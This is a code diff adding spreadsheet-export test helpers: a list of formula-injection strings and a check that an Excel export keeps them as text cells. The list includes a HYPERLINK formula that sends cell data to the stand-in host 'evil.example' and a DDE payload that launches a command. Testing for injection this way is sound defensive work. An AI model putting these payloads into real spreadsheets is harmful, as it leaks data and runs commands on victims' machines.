@@ -94,3 +94,40 @@ def make_personas() -> Personas:
     bind_user_to_organisation(personas.enterprise_b, org_b, actor=SETUP)
     bind_user_to_organisation(personas.agency, org_agency, actor=SETUP)
     return personas
+
+
+# --- Excel exports ---------------------------------------------------------------------------------
+
+# Text a user can type that spreadsheets would run as formulas if an export wrote it as one.
+FORMULA_TEXTS = [
+    '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")',
+    "=1+1",
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A2)",
+    "=cmd|' /C calc'!A0",
+    "#N/A",
+]
+
+
+def assert_text_cells(content: bytes, expected: list[str]) -> None:
+    """The workbook holds no formula at all, and each expected text is in a text cell, unchanged."""
+    import io
+    import zipfile
+
+    from openpyxl import load_workbook
+
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        for name in archive.namelist():
+            if name.startswith("xl/worksheets/"):
+                xml = archive.read(name)
+                assert b"<f>" not in xml and b"<f " not in xml, f"formula element in {name}"
+    cells = {}
+    for ws in load_workbook(io.BytesIO(content)).worksheets:
+        for row in ws.iter_rows():
+            for cell in row:
+                if isinstance(cell.value, str):
+                    cells[cell.value] = cell
+    for text in expected:
+        assert text in cells, f"{text!r} not found as a cell value"
+        assert cells[text].data_type == "s", f"{text!r} is stored as {cells[text].data_type!r}, not text"
